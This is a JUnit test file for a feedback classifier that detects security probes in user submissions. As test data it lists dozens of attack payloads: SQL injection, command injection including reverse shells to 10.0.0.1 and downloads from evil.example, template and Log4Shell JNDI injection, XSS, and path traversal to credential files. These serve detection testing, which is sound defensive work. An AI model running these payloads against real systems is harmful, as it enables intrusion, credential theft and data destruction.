package com.alumia.admin.command.feedback;

import com.alumia.admin.api.common.Severity;
import com.alumia.admin.api.feedback.Classification;
import com.alumia.admin.api.feedback.FeedbackContext;
import com.alumia.admin.api.feedback.ProbeClass;
import com.alumia.admin.api.feedback.RuleMatch;
import com.alumia.admin.api.feedback.SignalCategory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.List;
import java.util.stream.Stream;

import static com.alumia.admin.api.feedback.ProbeClass.COMMAND;
import static com.alumia.admin.api.feedback.ProbeClass.FUZZ;
import static com.alumia.admin.api.feedback.ProbeClass.PATH;
import static com.alumia.admin.api.feedback.ProbeClass.SCRIPT;
import static com.alumia.admin.api.feedback.ProbeClass.SQL;
import static com.alumia.admin.api.feedback.ProbeClass.TEMPLATE;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

class FeedbackClassifierTest {

    private static final String TEXT = "text";
    private static final String URL = "url";
    private static final String REQUEST = "request";

    private static final FeedbackContext ORDINARY_PAGE = new FeedbackContext(
            "https://app.alumia.example/reports?id=42&sort=desc&page=2",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
            null);

    private final FeedbackClassifier classifier = new FeedbackClassifier();

    static Stream<Arguments> attackPayloads() {
        return Stream.of(
                arguments(SQL, TEXT, "' OR 1=1--"),
                arguments(SQL, TEXT, "admin' or '1'='1"),
                arguments(SQL, TEXT, "1' AND '1'='1"),
                arguments(SQL, TEXT, "\" OR \"\"=\""),
                arguments(SQL, TEXT, "') or ('1'='1"),
                arguments(SQL, TEXT, "1 OR 1=1"),
                arguments(SQL, TEXT, "admin'--"),
                arguments(SQL, TEXT, "admin'/*"),
                arguments(SQL, TEXT, "' UNION SELECT username, password FROM users--"),
                arguments(SQL, TEXT, "1 UNION ALL SELECT NULL,NULL,NULL--"),
                arguments(SQL, TEXT, "1' UN/**/ION SE/**/LECT 1,2,3--"),
                arguments(SQL, TEXT, "uNiOn/**/aLl/**/sElEcT/**/1,2,3"),
                arguments(SQL, TEXT, "'/*!50000UNION*/ /*!50000SELECT*/ 1,2--"),
                arguments(SQL, TEXT, "1%20UnIoN%20SeLeCt%20null%2Cnull--"),
                arguments(SQL, TEXT, "%2527%2520OR%25201%253D1--"),
                arguments(SQL, TEXT, "&#39; OR &#39;1&#39;=&#39;1"),
                arguments(SQL, TEXT, "1; DROP TABLE users--"),
                arguments(SQL, TEXT, "'); DROP TABLE Students;--"),
                arguments(SQL, TEXT, "1' AND SLEEP(5)--"),
                arguments(SQL, TEXT, "'XOR(if(now()=sysdate(),sleep(15),0))XOR'"),
                arguments(SQL, TEXT, "'; WAITFOR DELAY '0:0:5'--"),
                arguments(SQL, TEXT, "' || (SELECT pg_sleep(10))--"),
                arguments(SQL, TEXT, "1 AND BENCHMARK(5000000,MD5(1))"),
                arguments(SQL, TEXT, "' AND extractvalue(1,concat(0x7e,(select @@version)))--"),
                arguments(SQL, TEXT, "' AND 1=CONVERT(int,@@version)--"),
                arguments(SQL, TEXT, "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64"),
                arguments(SQL, TEXT, "1';EXEC xp_cmdshell('dir')--"),
                arguments(SQL, URL, "https://app.example.com/search?q=%27%20OR%201%3D1--"),
                arguments(SQL, URL, "https://app.example.com/items?id=1+UNION+SELECT+NULL,version()--"),
                arguments(SQL, REQUEST, "username[$ne]=admin&password[$ne]=x"),
                arguments(SQL, REQUEST, "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
                arguments(SQL, REQUEST, "POST /api/login username=admin'--&password=x"),

                arguments(COMMAND, TEXT, "; cat /etc/passwd"),
                arguments(COMMAND, TEXT, "| id"),
                arguments(COMMAND, TEXT, "127.0.0.1 && whoami"),
                arguments(COMMAND, TEXT, "127.0.0.1; ping -c 10 127.0.0.1"),
                arguments(COMMAND, TEXT, "|| curl evil.example"),
                arguments(COMMAND, TEXT, "`whoami`"),
                arguments(COMMAND, TEXT, "$(cat /etc/passwd)"),
                arguments(COMMAND, TEXT, "$(sleep 10)"),
                arguments(COMMAND, TEXT, ";${IFS}cat${IFS}/etc/passwd"),
                arguments(COMMAND, TEXT, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
                arguments(COMMAND, TEXT, "; nc -e /bin/sh 10.0.0.1 4444"),
                arguments(COMMAND, TEXT, "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"),
                arguments(COMMAND, TEXT, "| type c:\\windows\\win.ini"),
                arguments(COMMAND, TEXT, "%3B%20cat%20%2Fetc%2Fpasswd"),
                arguments(COMMAND, TEXT, "127.0.0.1%0Aid"),
                arguments(COMMAND, TEXT, "file:///etc/shadow"),
                arguments(COMMAND, REQUEST, "cmd=ping+127.0.0.1%3Bcat+/etc/passwd"),
                arguments(COMMAND, REQUEST, "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
                arguments(COMMAND, URL,
                        "https://app.example.com/tools/ping?host=127.0.0.1|nslookup x.burpcollaborator.net"),

                arguments(TEMPLATE, TEXT, "{{7*7}}"),
                arguments(TEMPLATE, TEXT, "{{ 7 * 7 }}"),
                arguments(TEMPLATE, TEXT, "${7*7}"),
                arguments(TEMPLATE, TEXT, "#{7*7}"),
                arguments(TEMPLATE, TEXT, "*{7*7}"),
                arguments(TEMPLATE, TEXT, "<%= 7*7 %>"),
                arguments(TEMPLATE, TEXT, "@(7*7)"),
                arguments(TEMPLATE, TEXT, "{{7*'7'}}"),
                arguments(TEMPLATE, TEXT, "{{config.items()}}"),
                arguments(TEMPLATE, TEXT, "{{''.__class__.__mro__[1].__subclasses__()}}"),
                arguments(TEMPLATE, TEXT,
                        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
                arguments(TEMPLATE, TEXT, "${T(java.lang.Runtime).getRuntime().exec('id')}"),
                arguments(TEMPLATE, TEXT, "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ex(\"id\")}"),
                arguments(TEMPLATE, TEXT, "${jndi:ldap://evil.example/a}"),
                arguments(TEMPLATE, TEXT, "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}"),
                arguments(TEMPLATE, TEXT, "${${lower:j}ndi:ldap://x.example/a}"),
                arguments(TEMPLATE, TEXT, "%7B%7B7*7%7D%7D"),
                arguments(TEMPLATE, REQUEST, "{\"name\":\"{{7*7}}\"}"),

                arguments(SCRIPT, TEXT, "<script>alert(1)</script>"),
                arguments(SCRIPT, TEXT, "<ScRiPt>prompt(document.cookie)</sCrIpT>"),
                arguments(SCRIPT, TEXT, "<sCrIpT src=//evil.example/x.js></ScRiPt>"),
                arguments(SCRIPT, TEXT, "<img src=x onerror=alert(1)>"),
                arguments(SCRIPT, TEXT, "<svg/onload=alert(1)>"),
                arguments(SCRIPT, TEXT, "\"><svg onload=alert(document.domain)>"),
                arguments(SCRIPT, TEXT, "\" onmouseover=\"alert(1)"),
                arguments(SCRIPT, TEXT, "<details open ontoggle=alert(1)>"),
                arguments(SCRIPT, TEXT, "<input autofocus onfocus=alert(1)>"),
                arguments(SCRIPT, TEXT, "javascript:alert(1)"),
                arguments(SCRIPT, TEXT, "JaVaScRiPt:alert(document.cookie)"),
                arguments(SCRIPT, TEXT, "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
                arguments(SCRIPT, TEXT, "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
                        + "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"),
                arguments(SCRIPT, TEXT, "<iframe src=\"javascript:alert(1)\"></iframe>"),
                arguments(SCRIPT, TEXT, "<iframe srcdoc=\"<script>alert(1)</script>\">"),
                arguments(SCRIPT, TEXT, "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
                arguments(SCRIPT, TEXT, "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
                arguments(SCRIPT, TEXT, "&lt;script&gt;alert(1)&lt;/script&gt;"),
                arguments(SCRIPT, TEXT, "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
                arguments(SCRIPT, TEXT, "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
                arguments(SCRIPT, TEXT, "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
                arguments(SCRIPT, TEXT, "＜script＞alert(1)＜/script＞"),
                arguments(SCRIPT, TEXT, "<scr<script>ipt>alert(1)</scr</script>ipt>"),
                arguments(SCRIPT, TEXT, "'-alert(1)-'"),
                arguments(SCRIPT, URL, "https://app.example.com/search?q=<script>alert(1)</script>"),
                arguments(SCRIPT, REQUEST, "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),

                arguments(PATH, TEXT, "../../../../etc/passwd"),
                arguments(PATH, TEXT, "..\\..\\..\\windows\\win.ini"),
                arguments(PATH, TEXT, "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
                arguments(PATH, TEXT, "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
                arguments(PATH, TEXT, "....//....//....//etc/passwd"),
                arguments(PATH, TEXT, "..%c0%af..%c0%af..%c0%afetc/passwd"),
                arguments(PATH, TEXT, "..;/..;/admin"),
                arguments(PATH, TEXT, "..%u2215..%u2215etc%u2215passwd"),
                arguments(PATH, TEXT, "php://filter/convert.base64-encode/resource=index.php"),
                arguments(PATH, URL, "https://app.example.com/download?file=../../../../etc/passwd"),
                arguments(PATH, URL, "https://app.example.com/.env"),
                arguments(PATH, URL, "https://app.example.com/.git/config"),
                arguments(PATH, URL, "https://app.example.com/WEB-INF/web.xml"),
                arguments(PATH, REQUEST, "GET /image?file=shell.php%00.jpg"),

                arguments(FUZZ, TEXT, "%s%s%s%n"),
                arguments(FUZZ, TEXT, "%x%x%x%x"),
                arguments(FUZZ, TEXT, "%08x.%08x.%08x.%08x"),
                arguments(FUZZ, TEXT, "A".repeat(100)),
                arguments(FUZZ, TEXT, "Aa0Aa1Aa2Aa3Aa4Aa5Aa6Aa7Aa8Aa9Ab0Ab1Ab2Ab3Ab4Ab5"),
                arguments(FUZZ, TEXT, "0x41414141414141414141"),
                arguments(FUZZ, TEXT, "x8$kq!@#9zP)(*&^%2Jd0s9dF&*a(Lkj3#@!z9Q"),
                arguments(FUZZ, TEXT, "%00%01%02%03%ff%fe%7f"),
                arguments(FUZZ, URL, "https://app.example.com/search?q=" + "A".repeat(200)));
    }

    @ParameterizedTest(name = "{0} in {1}: {2}")
    @MethodSource("attackPayloads")
    void recognisesAttackPayloadAsAProbeOfItsFamilyAndExplainsWhy(ProbeClass family, String field, String payload) {
        Classification classification = classifyIn(field, payload);

        assertThat(classification.probeClass()).isEqualTo(family);
        assertThat(classification.category()).isEqualTo(SignalCategory.SECURITY_PROBE);
        RuleMatch strongest = classification.matches().get(0);
        assertThat(strongest.rule()).matches("[a-z]+\\.[a-z_]+").startsWith(family.name().toLowerCase() + ".");
        assertThat(strongest.probeClass()).isEqualTo(family);
        assertThat(strongest.field()).isEqualTo(field);
        assertThat(strongest.description()).isNotBlank();
        assertThat(strongest.evidence()).isNotBlank().hasSizeLessThanOrEqualTo(80);
        assertThat(payload).contains(strongest.evidence().replace("…", ""));
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "I can't select all rows in the table",
            "The drop-down menu is broken on Safari",
            "Please add a union of the two reports",
            "my script to export failed",
            "page loads slowly, ~3s",
            "delete my account please",
            "I love the new /settings page",
            "Error: cannot read property 'x' of undefined at line 12",
            "Love the new dashboard 😍🎉 great work team!",
            "We run SELECT name FROM users every morning and the numbers don't match the report",
            "I pasted this from our app: WHERE created_at > '2024-01-01' AND status = 'open'",
            "Contact me at jane.doe+alumia@example.com if you need more details",
            "The link https://app.example.com/reports?id=42&sort=desc&page=2 shows an empty table",
            "The Pro plan is $5 per seat, can we get an annual discount?",
            "**Bold** text in comments renders as `**Bold**` instead of bold, see [docs](https://example.com/docs#md)",
            "Markdown table: | id | name | status | renders badly",
            "Die Seite lädt sehr langsam und der Export funktioniert nicht.",
            "Bitte fügt einen Dunkelmodus hinzu, das wäre super.",
            "ページの読み込みがとても遅いです。改善してください。",
            "التطبيق لا يعمل بعد التحديث الأخير",
            "L'export CSV ne fonctionne pas depuis la mise à jour",
            "El botón de guardar no funciona en Firefox",
            "Tom & Jerry's account shows the wrong balance",
            "Tom & Jerry; id is missing in the export",
            "Search for \"o'brien\" returns nothing but \"obrien\" works",
            "The form says \"Invalid input\" for names like O'Connor or D'Angelo",
            "The filter 'status' or 'owner' = none crashes the page",
            "I'd like 'Export' and 'Import' = one button",
            "It's great -- thanks for the quick fix!",
            "The \"Save\" button doesn't work, I clicked it 5 times -- nothing happens",
            "After clicking 'Export' and waiting 30s I get a 504 timeout",
            "Version 2.3.1 broke the CSV import; our ops team can't load files",
            "Select the union option; drop the table afterwards",
            "We use ../shared/config in our monorepo and the import fails",
            "In the settings page, sleep mode (5 min) doesn't save",
            "I tried rm -rf node_modules and reinstalled, still broken",
            "Running `npm install && npm run build` locally works fine",
            "Comments with C# code like `var x = 1;` break the layout",
            "The <iframe> embed does not resize on mobile",
            "The <b>bold</b> tag shows up literally in notifications",
            "My JavaScript: the widget throws TypeError when I resize the window",
            "The table header says {{name}} instead of the customer name",
            "Our template uses ${customer.firstName} and it is not replaced in emails",
            "The label shows %s instead of the name",
            "Progress shows 100%% instead of 100%",
            "Order total 1,299.00 EUR; VAT 19%; discount 10%",
            "Using C++ and C# SDKs, both fail with error code 0x80070005",
            "The API returns {\"error\":\"invalid_token\",\"message\":\"Token expired\"} after 5 minutes",
            "Stack trace: at com.acme.Foo.bar(Foo.java:42) at com.acme.Baz.qux(Baz.java:7)",
            "Reference: 8f14e45f-ceea-467f-a0e5-6c1d2a7b1f3e",
            "I set the path to C:\\Users\\anna\\Documents\\exports and nothing is saved",
            "Heading ===== underline renders as text",
            "Emoji 🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂 everywhere",
            "Très bien, merci beaucoup pour la mise à jour",
            "素晴らしいアプリです",
            "Great app! 5/5 ★★★★★",
            "Steps to reproduce:\nid is missing in the export\ncat /var/log/app.log shows nothing"
    })
    void leavesOrdinaryFeedbackUnflagged(String text) {
        Classification classification = classifier.classify(text, ORDINARY_PAGE);

        assertThat(classification.probeClass()).isEqualTo(ProbeClass.NONE);
        assertThat(classification.category()).isNotEqualTo(SignalCategory.SECURITY_PROBE);
        assertThat(classification.matches()).isEmpty();
    }

    @ParameterizedTest(name = "{1}/{2}: {0}")
    @CsvSource(delimiter = '|', value = {
            "The export to CSV fails with a 500 error every time I select more than ten rows | ACTIONABLE | MEDIUM",
            "Please add a dark mode to the reporting screens, my eyes would thank you | ACTIONABLE | MEDIUM",
            "Die Seite lädt sehr langsam und der Export funktioniert nicht mehr richtig | ACTIONABLE | MEDIUM",
            "L'export CSV ne fonctionne pas depuis la mise à jour d'hier | ACTIONABLE | MEDIUM",
            "El botón de guardar no funciona en Firefox desde ayer por la tarde | ACTIONABLE | MEDIUM",
            "We were charged twice this month and the invoice shows the wrong amount | ACTIONABLE | HIGH",
            "Since the update I can't log in, and nobody in our company can either | ACTIONABLE | HIGH",
            "All my saved reports disappeared after the update, this is data loss for us | ACTIONABLE | HIGH",
            "The dashboard is broken for all users since this morning's release | ACTIONABLE | HIGH",
            "Can't log in! | SHORT_ACTIONABLE | HIGH",
            "page loads slowly, ~3s | SHORT_ACTIONABLE | LOW",
            "Export button is broken | SHORT_ACTIONABLE | LOW",
            "Love the new dashboard, great work team! | PRODUCT_SIGNAL | INFO",
            "The new onboarding flow is much clearer than before | PRODUCT_SIGNAL | INFO",
            "Loving the billing page redesign | PRODUCT_SIGNAL | INFO"
    })
    void categorisesReportsByWhetherTheyNameAProblemAndRatesTheirImpact(String text, SignalCategory category,
                                                                        Severity severity) {
        Classification classification = classifier.classify(text, ORDINARY_PAGE);

        assertThat(classification.category()).isEqualTo(category);
        assertThat(classification.severity()).isEqualTo(severity);
    }

    static Stream<Arguments> probesBySeverity() {
        return Stream.of(
                arguments("; cat /etc/passwd", Severity.CRITICAL),
                arguments("1' AND SLEEP(5)--", Severity.CRITICAL),
                arguments("1; DROP TABLE users--", Severity.CRITICAL),
                arguments("' OR 1=1--", Severity.HIGH),
                arguments("{{7*7}}", Severity.HIGH),
                arguments("../../../../etc/passwd", Severity.HIGH),
                arguments("<script>alert(1)</script>", Severity.MEDIUM),
                arguments("<img src=x onerror=alert(1)>", Severity.MEDIUM),
                arguments("%s%s%s%n", Severity.LOW),
                arguments("A".repeat(100), Severity.LOW));
    }

    @ParameterizedTest(name = "{1}: {0}")
    @MethodSource("probesBySeverity")
    void ratesAProbeByItsMostDangerousMatch(String payload, Severity severity) {
        assertThat(classifier.classify(payload, FeedbackContext.NONE).severity()).isEqualTo(severity);
    }

    @Test
    void explainsAKnownPayloadWithEveryMatchingRuleStrongestFirst() {
        Classification classification = classifier.classify("1' UNION SELECT load_file('/etc/passwd')--",
                FeedbackContext.NONE);

        assertThat(classification.matches()).extracting(RuleMatch::rule).containsExactly(
                "sql.union_select", "sql.file_access", "command.sensitive_file", "sql.comment_terminator");
        assertThat(classification.matches().get(0).evidence()).isEqualTo("UNION SELECT load_file(");
        assertThat(classification.matches()).extracting(RuleMatch::field).containsOnly(TEXT);
        assertThat(classification.probeClass()).isEqualTo(SQL);
    }

    @Test
    void quotesTheAttackersOwnEncodingAsEvidence() {
        Classification classification = classifier.classify("%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                FeedbackContext.NONE);

        assertThat(classification.matches().get(0).rule()).isEqualTo("script.tag");
        assertThat(classification.matches().get(0).evidence()).isEqualTo("%3Cscript%3Ealert(1)%3C%2Fscript");
    }

    @Test
    void readsATraversalIntoACredentialFileAsPathProbeNotCommandInjection() {
        Classification classification = classifier.classify("../../../../etc/passwd", FeedbackContext.NONE);

        assertThat(classification.probeClass()).isEqualTo(PATH);
        assertThat(classification.matches()).extracting(RuleMatch::rule)
                .containsExactly("path.traversal", "command.sensitive_file");
    }

    @Test
    void findsAProbeInTheRequestFragmentWhileTheTextLooksHarmless() {
        Classification classification = classifier.classify("Thanks, the page works now",
                new FeedbackContext("https://app.example.com/login", null, "username=admin'--&password=x"));

        assertThat(classification.probeClass()).isEqualTo(SQL);
        assertThat(classification.category()).isEqualTo(SignalCategory.SECURITY_PROBE);
        assertThat(classification.matches()).extracting(RuleMatch::field).containsOnly(REQUEST);
    }

    @Test
    void keepsAReportThatQuotesFuzzLikeInputAsAReport() {
        Classification classification = classifier.classify(
                "When I paste " + "A".repeat(200) + " into the customer name field the export crashes",
                FeedbackContext.NONE);

        assertThat(classification.probeClass()).isEqualTo(FUZZ);
        assertThat(classification.category()).isEqualTo(SignalCategory.ACTIONABLE);
        assertThat(classification.severity()).isEqualTo(Severity.MEDIUM);
    }

    @Test
    void treatsALineBreakAsACommandSeparatorOnlyWhenItWasEncoded() {
        assertThat(classifier.classify("127.0.0.1\nid", FeedbackContext.NONE).probeClass())
                .isEqualTo(ProbeClass.NONE);
        assertThat(classifier.classify("127.0.0.1%0aid", FeedbackContext.NONE).probeClass()).isEqualTo(COMMAND);
    }

    @Test
    void classifiesMissingTextAndContextAsAnEmptyProductSignal() {
        Classification classification = classifier.classify(null, null);

        assertThat(classification.probeClass()).isEqualTo(ProbeClass.NONE);
        assertThat(classification.category()).isEqualTo(SignalCategory.PRODUCT_SIGNAL);
        assertThat(classification.severity()).isEqualTo(Severity.INFO);
        assertThat(classification.matches()).isEmpty();
    }

    @Test
    void groupsTheSameProbeWhateverItsNumbersSpacingCaseOrEncoding() {
        assertThat(fingerprints(
                "' OR 1=1--", "' OR 2=2--", "' or 5=5 --", "test' OR 7=7--", "%27%20OR%201%3D1--"))
                .hasSize(5).containsOnly(fingerprintOf("' OR 1=1--"));
        assertThat(fingerprints("<script>alert(1)</script>", "<script>alert(2)</script>",
                "%3Cscript%3Ealert(3)%3C%2Fscript%3E"))
                .containsOnly(fingerprintOf("<script>alert(1)</script>"));
        assertThat(fingerprints("../../../../etc/passwd", "../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd"))
                .containsOnly(fingerprintOf("../../../../etc/passwd"));
        assertThat(fingerprints("A".repeat(100), "A".repeat(500)))
                .containsOnly(fingerprintOf("A".repeat(100)));
    }

    @Test
    void groupsTheSameProbeWhetherItArrivesInTheTextOrTheUrl() {
        String inUrl = classifier.classify("", new FeedbackContext(
                "https://app.example.com/search?q=%27%20OR%201%3D1--", null, null)).fingerprint();

        assertThat(inUrl).isEqualTo(fingerprintOf("' OR 1=1--"));
    }

    @Test
    void keepsDifferentProbesApart() {
        List<String> fingerprints = fingerprints(
                "' OR 1=1--", "' UNION SELECT NULL--", "1; DROP TABLE users--", "1' AND SLEEP(5)--",
                "; cat /etc/passwd", "$(whoami)", "{{7*7}}", "${jndi:ldap://x.example/a}",
                "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
                "../../../../etc/passwd", "%s%s%s%n", "A".repeat(100));

        assertThat(fingerprints).doesNotHaveDuplicates();
    }

    @Test
    void groupsDuplicateReportsThatDifferOnlyInNumbersCaseAndPunctuation() {
        assertThat(fingerprints(
                "The export fails with error 500 at 10:42",
                "the export fails with error 500 at 11:03!!",
                "The export fails with error 500, at 9:15."))
                .containsOnly(fingerprintOf("The export fails with error 500 at 10:42"));
    }

    @Test
    void keepsDifferentReportsApart() {
        assertThat(fingerprints(
                "The export fails with error 500",
                "The import fails with error 500",
                "The export is slow",
                "Love the new dashboard"))
                .doesNotHaveDuplicates();
    }

    @Test
    void neverGivesAProbeAndAReportTheSameFingerprint() {
        String probe = fingerprintOf("' OR 1=1--");
        String report = fingerprintOf("or 1 1");

        assertThat(probe).isNotEqualTo(report).matches("[0-9a-f]{16}");
        assertThat(report).matches("[0-9a-f]{16}");
    }

    @Test
    void classifiesTheSameInputTheSameWayEveryTime() {
        String payload = "<svg/onload=alert(1)>' OR 1=1-- {{7*7}}";

        assertThat(classifier.classify(payload, ORDINARY_PAGE)).isEqualTo(classifier.classify(payload, ORDINARY_PAGE));
    }

    @Test
    void classifiesAMegabyteOfOneCharacterAsFuzzWithAShortExplanation() {
        Classification classification = classifier.classify("a".repeat(1 << 20),
                new FeedbackContext("https://app.example.com/" + "a".repeat(1 << 20), null, "a".repeat(1 << 20)));

        assertThat(classification.probeClass()).isEqualTo(FUZZ);
        assertThat(classification.category()).isEqualTo(SignalCategory.SECURITY_PROBE);
        assertThat(classification.severity()).isEqualTo(Severity.LOW);
        assertThat(classification.matches()).allSatisfy(match ->
                assertThat(match.evidence()).hasSizeLessThanOrEqualTo(80));
    }

    @Test
    void classifiesDeeplyNestedBracketsAsFuzz() {
        String nested = "(".repeat(500_000) + ")".repeat(500_000);

        Classification classification = classifier.classify(nested, new FeedbackContext(null, null, nested));

        assertThat(classification.probeClass()).isEqualTo(FUZZ);
        assertThat(classification.category()).isEqualTo(SignalCategory.SECURITY_PROBE);
    }

    @ParameterizedTest
    @ValueSource(strings = {"'", "../", "<a ", "/*", "${", "%25", "&#", "\\u", "' or "})
    void classifiesLongRepetitionsOfPayloadFragmentsAsProbes(String fragment) {
        String input = fragment.repeat((1 << 20) / fragment.length());

        Classification classification = classifier.classify(input, new FeedbackContext(input, null, input));

        assertThat(classification.category()).isEqualTo(SignalCategory.SECURITY_PROBE);
    }

    private Classification classifyIn(String field, String payload) {
        return switch (field) {
            case URL -> classifier.classify("", new FeedbackContext(payload, null, null));
            case REQUEST -> classifier.classify("", new FeedbackContext(null, null, payload));
            default -> classifier.classify(payload, FeedbackContext.NONE);
        };
    }

    private String fingerprintOf(String text) {
        return classifier.classify(text, FeedbackContext.NONE).fingerprint();
    }

    private List<String> fingerprints(String... texts) {
        return Stream.of(texts).map(this::fingerprintOf).toList();
    }
}
